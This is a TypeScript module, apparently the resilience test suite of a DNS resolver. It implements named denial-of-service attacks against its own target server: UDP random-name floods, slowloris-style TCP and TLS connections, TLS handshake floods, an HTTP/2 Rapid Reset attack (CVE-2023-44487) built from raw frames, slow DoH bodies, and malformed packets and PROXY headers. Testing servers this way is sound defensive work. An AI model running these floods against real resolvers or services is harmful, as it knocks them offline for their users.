import { addressRdata } from '@weir/policy/answers';
import { randomBytes } from 'node:crypto';
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { once } from 'node:events';
import { type ClientHttp2Session, type ClientHttp2Stream, connect as openHttp2 } from 'node:http2';
import { connect, type Socket } from 'node:net';
import { Duplex } from 'node:stream';
import { connect as connectTls, type TLSSocket } from 'node:tls';
import { BALANCER_ADDRESS } from '../deployment/dns-client.js';
import { encodeQuery, proxyHeader, withEdns } from '../deployment/dns-message.js';
import {
  ATTACKER,
  CROWD,
  frame,
  NEIGHBOUR,
  NETWORK_ADDRESSES,
  POPULAR_ZONE,
  readFrames,
  SERVER,
  STRANGERS,
  type Target,
  ZONES,
} from './target.js';

/** What an attack works with. */
interface AttackContext {
  readonly target: Target;
  /** Counts what happened to the attacker, such as `SERVFAIL`. */
  readonly count: (what: string, times?: number) => void;
  /** Aborted when the attack is over. Sockets stay open for late answers. */
  readonly signal: AbortSignal;
}

type Run = (context: AttackContext) => Promise<unknown>;
type Attack = readonly [description: string, run: Run];

const SHORTEST_TICK_MS = 2;
/** A busy attacker skips what it could not do for this long, rather than do it in a burst. */
const MAX_OWED_MS = 20;

/** Takes steps at a steady rate until the attack is over, or the socket is destroyed. */
function pace(
  { signal }: AttackContext,
  perSecond: number,
  step: (n: number) => unknown,
  socket: { readonly destroyed: boolean } = { destroyed: false },
): Promise<void> {
  const perMs = perSecond / 1_000;
  let [n, owed, beforeMs] = [0, 0, performance.now()];
  return new Promise((resolve) => {
    const tick = (): void => {
      const nowMs = performance.now();
      owed = Math.min(owed + (nowMs - beforeMs) * perMs, MAX_OWED_MS * perMs + 1);
      beforeMs = nowMs;
      const isOver = (): boolean => signal.aborted || socket.destroyed;
      for (; owed >= 1 && !isOver(); owed--) step(n++);
      if (!isOver()) return;
      clearInterval(timer);
      resolve();
    };
    const timer = setInterval(tick, Math.max(SHORTEST_TICK_MS, 0.5 / perMs));
  });
}

const RCODES = ['NOERROR', 'FORMERR', 'SERVFAIL', 'NXDOMAIN', 'NOTIMP', 'REFUSED'];
const RECEIVE_BUFFER_BYTES = 1024 * 1024;
const FLAG_TRUNCATED = 0x02;

async function openUdp(source: string, { count }: AttackContext): Promise<UdpSocket> {
  const socket = createSocket({ type: 'udp4', recvBufferSize: RECEIVE_BUFFER_BYTES });
  await once(socket.bind(0, source), 'listening');
  socket.on('error', () => count('not sent'));
  return socket.on('message', (answer) => {
    const rcode = answer[3] & 15;
    const truncated = (answer[2] & FLAG_TRUNCATED) === 0 ? '' : ' with TC';
    count(`${RCODES[rcode] ?? `RCODE ${rcode}`}${truncated}`);
  });
}

/** Sends packets, from each source in order. @param packet the nth; null: none */
function udp(
  perSecond: number,
  sources: readonly string[],
  packet: (n: number, target: Target) => Buffer | null,
): Run {
  return async (context) => {
    const sockets = await Promise.all(sources.map((source) => openUdp(source, context)));
    await pace(context, perSecond, (n) => {
      const bytes = packet(n, context.target);
      if (bytes === null) return;
      context.count('sent');
      sockets[n % sockets.length].send(bytes, context.target.dnsPort, SERVER);
    });
  };
}

interface Connections {
  /** How fast they are opened. */
  readonly perSecond: number;
  /** How many it wants to have. Those that the resolver closes are opened again. Default: any number. */
  readonly most?: number;
  readonly sources?: readonly string[];
  /** Default: the one of DNS. */
  readonly ports?: readonly ('dnsPort' | 'tlsPort' | 'httpsPort')[];
}

/** Opens connections. @param use what it does with the nth */
function connections(
  { perSecond, most = Infinity, sources = [ATTACKER], ports = ['dnsPort'] }: Connections,
  use: (socket: Socket, context: AttackContext, n: number) => void,
): Run {
  return (context) => {
    const { count, target } = context;
    let open = 0;
    return pace(context, perSecond, (n) => {
      if (open >= most) return;
      open++;
      count('connections');
      const localAddress = sources[n % sources.length];
      const port = target[ports[n % ports.length]];
      const socket = connect({ host: SERVER, port, localAddress, noDelay: true });
      socket.on('error', () => {
        count('failed');
        socket.destroy();
      });
      socket.on('close', () => {
        count('closed');
        open--;
      });
      use(socket, context, n);
    });
  };
}

const [TYPE_A, TYPE_TXT] = [1, 16];
const UDP_BYTES = 1_232;
const COOKIE_OPTION = 10;
const COOKIE_BYTES = [24, 4, 24, 8, 24, 12, 24, 16, 24, 32, 24, 40, 24, 60];
const MAX_GARBAGE_BYTES = 200;

const popular = (n: number): Buffer => encodeQuery(n & 0xffff, `n${n % 50}.${POPULAR_ZONE}`);

/** A name that is different in each run, and spread over the hash tables of the resolver. */
const random =
  (zone: string, qtype = TYPE_A) =>
  (n: number, { seed }: Target): Buffer => {
    const label = `r${n}-${seed}-${Math.random().toString(36).slice(2)}`;
    return withEdns(encodeQuery(n & 0xffff, `${label}.${zone}`, qtype), UDP_BYTES);
  };

const garbage = (): Buffer => randomBytes(Math.floor(Math.random() * MAX_GARBAGE_BYTES));

/** The packet with a wrong byte, with more behind that, or without its end; or random bytes. */
function damaged(n: number, packet: Buffer): Buffer {
  const at = Math.floor(Math.random() * packet.length);
  if (n % 4 === 0) return garbage();
  if (n % 4 === 1) return packet.subarray(0, at);
  randomBytes(1).copy(packet, at);
  return n % 4 === 2 ? packet : Buffer.concat([packet, garbage()]);
}

function damagedHeader(n: number): Buffer {
  const kind = n % 2 === 0 ? 'datagram' : 'stream';
  const header = damaged(n >>> 1, proxyHeader(addressRdata(NEIGHBOUR), n & 0xff, kind));
  return Buffer.concat([header, popular(n)]);
}

/** A port of the attacker in `NEIGHBOUR`'s address. */
const NAPT_HEADER = proxyHeader(addressRdata(NEIGHBOUR), 1_500);

/** One name after the other, each for so many queries that all clients wait before the first has failed. */
const WAITING = { clients: 16_384, perSecond: 12_000, perName: 54_000 };
function waiting(n: number, { seed }: Target): Buffer | null {
  const { clients, perName } = WAITING;
  if (n % perName >= clients) return null;
  return encodeQuery(n & 0xffff, `wait${Math.floor(n / perName)}-${seed}.${ZONES.dead}`);
}

const MANY_CONNECTIONS = { most: 2_000, perSecond: 500 };
const BYTES_PER_SECOND = 2.5;
const UNREAD = { queries: 200, ms: 2_000 };
/** About as much as one read of the resolver takes in: 64 KiB. */
const BURST = Array.from({ length: 1_500 }, (_, n) => frame(popular(n)));

/** The first message of a TLS handshake. */
function clientHello(): Promise<Buffer> {
  return new Promise((resolve) => {
    const socket = new Duplex({ read: () => undefined, write: (chunk: Buffer) => resolve(chunk) });
    connectTls({ socket, rejectUnauthorized: false }).on('error', () => undefined);
  });
}

const openTls = (socket: Socket): TLSSocket =>
  connectTls({ socket, rejectUnauthorized: false, ALPNProtocols: ['h2'] });

const SESSIONS = { most: 20, perSecond: 100, ports: ['httpsPort'] } as const;
const POST = {
  ':method': 'POST',
  ':path': '/dns-query',
  'content-type': 'application/dns-message',
  'content-length': 4_000,
};

/** Makes requests over 20 connections. @param perSecond of all together */
function requests(
  perSecond: number,
  request: (session: ClientHttp2Session, n: number, context: AttackContext) => ClientHttp2Stream,
): Run {
  return connections(SESSIONS, (socket, context) => {
    const session = openHttp2(`https://${SERVER}`, { createConnection: () => openTls(socket) });
    for (const event of ['error', 'goaway']) session.on(event, () => session.destroy());
    const step = (n: number): void => {
      context.count('requests');
      request(session, n, context)
        .on('response', ({ ':status': status }) => context.count(`status ${status ?? 0}`))
        .on('error', () => context.count('failed'))
        .resume();
    };
    void pace(context, perSecond / SESSIONS.most, step, session);
  });
}

/** A frame of HTTP/2 (RFC 9113 §4.1), for what `node:http2` does not send. */
function http2Frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const [DATA, HEADERS, RST_STREAM, SETTINGS, UNKNOWN] = [0, 1, 3, 4, 0xfe];
const CANCEL = Buffer.of(0, 0, 0, 8);
const text = (value: string): Buffer => Buffer.from(`${String.fromCharCode(value.length)}${value}`);

/** The headers of `POST /dns-query`, without compression (RFC 7541 §6.2.2), in a frame with END_HEADERS. */
const POST_HEADERS = Buffer.concat([
  ...[Buffer.of(0x83, 0x87, 0x04), text('/dns-query'), Buffer.of(0x01), text(SERVER)],
  ...[Buffer.of(0x0f, 0x10), text('application/dns-message')],
]);
const posts = (count: number): Buffer[] =>
  Array.from({ length: count }, (_, i) => http2Frame(HEADERS, 4, 1 + 2 * i, POST_HEADERS));

function openFrames(socket: Socket): TLSSocket {
  const session = openTls(socket);
  session.on('error', () => session.destroy()).resume();
  session.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
  session.write(http2Frame(SETTINGS, 0, 0, Buffer.alloc(0)));
  return session;
}

/** As many requests as come in few reads. */
const RESET_POSTS = Buffer.concat(
  posts(600).flatMap((post, i) => [post, http2Frame(RST_STREAM, 0, 1 + 2 * i, CANCEL)]),
);

/**
 * Requests that are reset at once (CVE-2023-44487), over connections that the resolver closes for it: fewer of them
 * than `CLIENT_TLS_HANDSHAKE_RATE`.
 */
const resets = (sources: readonly string[]): Run =>
  connections({ perSecond: 40, sources, ports: ['httpsPort'] }, (socket, { count }) => {
    const session = openFrames(socket);
    session.once('secureConnect', () => count('requests', 600));
    session.write(RESET_POSTS);
  });

const STRANGER_SESSIONS = {
  most: 8,
  perSecond: 50,
  sources: STRANGERS,
  ports: ['httpsPort'],
} as const;
const STREAMS = 60;
/** What comes with one byte of a body: about as much as a socket is read into at once. */
const FILLER = http2Frame(UNKNOWN, 0, 0, Buffer.alloc(16_000));

/** What a subscriber can do, or somebody who is not served and only reaches the ports; by name, in this order. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  // What all subscribers share behind the cache: questions in flight, waiting clients, upstreams.
  'dead-zone': [
    '3,000 random names a second below a zone that never answers',
    udp(3_000, [ATTACKER], random(ZONES.dead)),
  ],
  'dead-zone-napt': [
    'the same, from the address of the neighbour, by other ports (NAPT)',
    udp(3_000, [BALANCER_ADDRESS], (n, target) =>
      Buffer.concat([NAPT_HEADER, random(ZONES.dead)(n, target)]),
    ),
  ],
  'dead-zone-crowd': [
    'the same 3,000 a second, from 64 subscribers',
    udp(3_000, CROWD, random(ZONES.dead)),
  ],
  'dead-name': [
    'one name of that zone, 3,000 times a second, from 64 subscribers',
    udp(3_000, CROWD, (n, { seed }) => encodeQuery(n & 0xffff, `www-${seed}.${ZONES.dead}`)),
  ],
  'slow-zone': [
    '3,000 random names a second below a zone that answers after 1.5 s',
    udp(3_000, [ATTACKER], random(ZONES.slow)),
  ],
  // More than can be in flight.
  'slow-zone-network': [
    '6,000 a second below that zone, from 64 addresses of a subscriber who has a /24',
    udp(6_000, NETWORK_ADDRESSES, random(ZONES.slow)),
  ],
  'waiting-crowd': [
    '16,384 clients of 64 subscribers wait for one name that times out',
    udp(WAITING.perSecond, CROWD, waiting),
  ],
  'huge-answers': [
    '200 random names a second with 60 KB of TXT records',
    udp(200, [ATTACKER], random(ZONES.huge, TYPE_TXT)),
  ],
  chains: [
    '1,000 names a second with a chain of 40 CNAME records',
    udp(1_000, [ATTACKER], random(ZONES.chain)),
  ],
  'absent-names': [
    '3,000 random names a second that do not exist',
    udp(3_000, [ATTACKER], random(ZONES.absent)),
  ],

  'tcp-idle': [
    'TCP connections without a query, as many as it gets',
    connections(MANY_CONNECTIONS, (socket) => socket.resume()),
  ],
  'tcp-half': [
    'TCP connections with the beginning of a query',
    connections(MANY_CONNECTIONS, (socket, _, n) => {
      socket.resume().write(frame(popular(n)).subarray(0, 1 + (n % 20)));
    }),
  ],
  'tcp-slow': [
    'TCP connections that send a byte now and then',
    connections(MANY_CONNECTIONS, (socket, context, n) => {
      socket.resume();
      const query = frame(popular(n));
      const step = (i: number) => socket.write(query.subarray(i % query.length).subarray(0, 1));
      void pace(context, BYTES_PER_SECOND, step, socket);
    }),
  ],
  // After a while it tries again, because it would not see that it was closed.
  'tcp-unread': [
    'TCP connections that ask for 60 KB answers and read none',
    connections({ most: 2_000, perSecond: 100 }, (socket, { count }) => {
      socket.pause();
      setTimeout(() => socket.destroy(), UNREAD.ms);
      const query = frame(encodeQuery(1, `one.${ZONES.huge}`, TYPE_TXT));
      socket.write(Buffer.concat(Array.from({ length: UNREAD.queries }, () => query)));
      count('queries', UNREAD.queries);
    }),
  ],
  'tcp-bursts': [
    '1,500 queries in one piece over TCP, twice a second',
    connections({ most: 1, perSecond: 2 }, (socket, context) => {
      readFrames(socket, () => context.count('answered'));
      const step = (): void => {
        context.count('queries', BURST.length);
        socket.write(Buffer.concat(BURST));
      };
      void pace(context, 2, step, socket);
    }),
  ],

  // More costs the attacker more processor time than the resolver.
  'tls-handshakes': [
    '150 TLS handshakes a second',
    connections({ perSecond: 150, ports: ['tlsPort'] }, (raw, { count }) => {
      const socket = connectTls({ socket: raw, rejectUnauthorized: false });
      socket.on('secureConnect', () => {
        count('handshakes');
        socket.destroy();
      });
      socket.on('error', () => socket.destroy());
    }),
  ],
  // The resolver has to sign for it; then the attacker leaves.
  'tls-dropped': [
    '1,000 TLS handshakes a second, left after the first message',
    async (context) => {
      const hello = await clientHello();
      await connections(
        { perSecond: 1_000, ports: ['tlsPort', 'httpsPort'] },
        (socket, { count }) => {
          socket.write(hello);
          socket.once('data', () => {
            count('answered');
            socket.destroy();
          });
        },
      )(context);
    },
  ],

  'doh-requests': [
    '1,500 requests a second over 20 HTTP/2 connections',
    requests(1_500, (session, n) => {
      const query = encodeQuery(0, `n${n % 50}.${POPULAR_ZONE}`).toString('base64url');
      return session.request({ ':path': `/dns-query?dns=${query}` });
    }),
  ],
  'doh-resets': [
    '40 HTTP/2 connections a second, each with 600 requests that are reset at once',
    resets([ATTACKER]),
  ],
  'doh-slow-bodies': [
    '300 requests a second whose bodies do not end',
    requests(300, (session, _, context) => {
      const stream = session.request(POST);
      void pace(context, BYTES_PER_SECOND, () => stream.write('x'), stream);
      return stream;
    }),
  ],

  'stranger-bodies': [
    '2,500 bytes a second of 480 HTTPS bodies, each among 16 kB, from clients that are not served',
    connections(STRANGER_SESSIONS, (socket, context) => {
      const session = openFrames(socket);
      session.write(Buffer.concat(posts(STREAMS)));
      const step = (n: number): void => {
        if (session.writableLength > FILLER.length) return;
        context.count('pieces');
        const piece = http2Frame(DATA, 0, 1 + 2 * (n % STREAMS), Buffer.from('x'));
        session.write(Buffer.concat([piece, FILLER]));
      };
      void pace(context, 2_500 / STRANGER_SESSIONS.most, step, session);
    }),
  ],
  'stranger-resets': [
    'the same as doh-resets, from 64 addresses that are not served',
    resets(STRANGERS),
  ],
  // More than a resolver takes, `DNS_TCP_CONNECTIONS`.
  'stranger-connections': [
    '6,000 TCP, TLS and HTTPS connections from 64 addresses that are not served',
    connections(
      {
        ...{ most: 6_000, perSecond: 800, sources: STRANGERS },
        ports: ['dnsPort', 'tlsPort', 'httpsPort'],
      },
      (socket) => socket.resume(),
    ),
  ],

  malformed: [
    '5,000 damaged packets a second',
    udp(5_000, [ATTACKER], (n) => damaged(n, withEdns(popular(n), UDP_BYTES))),
  ],
  strangers: [
    '5,000 queries a second from 64 sources that are refused',
    udp(5_000, STRANGERS, popular),
  ],
  'over-rate': [
    '20,000 queries a second, four times the limit of a subscriber',
    udp(20_000, [ATTACKER], popular),
  ],
  // Cookies of a wrong length, and cookies that this resolver has not signed.
  'wrong-cookies': [
    '5,000 queries a second with wrong DNS cookies',
    udp(5_000, [ATTACKER], (n) => {
      const length = COOKIE_BYTES[n % COOKIE_BYTES.length];
      const option = Buffer.concat([Buffer.of(0, COOKIE_OPTION, 0, length), randomBytes(length)]);
      return withEdns(popular(n), UDP_BYTES, option);
    }),
  ],
  // Somebody who can send from the address of the load balancer: no header, a damaged one, or one that never ends.
  'proxy-garbage': [
    '5,000 damaged PROXY headers a second, and connections with them',
    (context) =>
      Promise.all([
        udp(5_000, [BALANCER_ADDRESS], damagedHeader)(context),
        connections({ perSecond: 50, sources: [BALANCER_ADDRESS] }, (socket, _, n) => {
          socket.resume().write(damagedHeader(n));
        })(context),
      ]),
  ],
};
